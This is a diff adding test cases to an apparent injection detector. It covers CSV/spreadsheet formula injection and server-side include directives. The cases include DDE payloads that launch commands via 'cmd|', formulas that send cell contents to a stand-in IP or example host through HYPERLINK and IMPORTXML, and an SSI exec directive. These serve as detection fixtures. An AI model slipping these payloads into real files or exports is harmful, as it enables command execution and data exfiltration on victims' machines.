@@ -44,6 +44,21 @@ export const injectionCases: CaseTable = {
     ],
     passes: ["proto", "__prototype", "constructor of prototypes", json({ constructor: "Acme" })],
   },
+  "wc-injection-formula-command": {
+    matches: [
+      "=cmd|' /C calc'!A0",
+      form("@SUM(1+1)*cmd|'/c dir'!B1"),
+      file("a.csv", "n,t\n1,=cmd|'/c x'!C1"),
+    ],
+    passes: ["=Excel|'[Book1.xls]Sheet1'!R1C1", "=SUM(A1:A9)", "cmd|'/c dir'!B1"],
+  },
+  "wc-injection-formula-request": {
+    matches: [
+      '=HYPERLINK("http://203.0.113.9/?l="&A1,"x")',
+      '=IMPORTXML(CONCAT("http://a.example/",A2),"//a")',
+    ],
+    passes: ['=HYPERLINK("https://a.example/5","Item")', '=IMPORTXML("https://a.example/","//a")'],
+  },
   "wc-injection-server-directive": {
     matches: ['<!--#exec cmd="id"-->', "<!-- #include virtual='/x' -->", "<esi:include src=http://e/>"],
     passes: ["<!-- comment -->", "#include <stdio.h>", "<!-- # heading -->"],
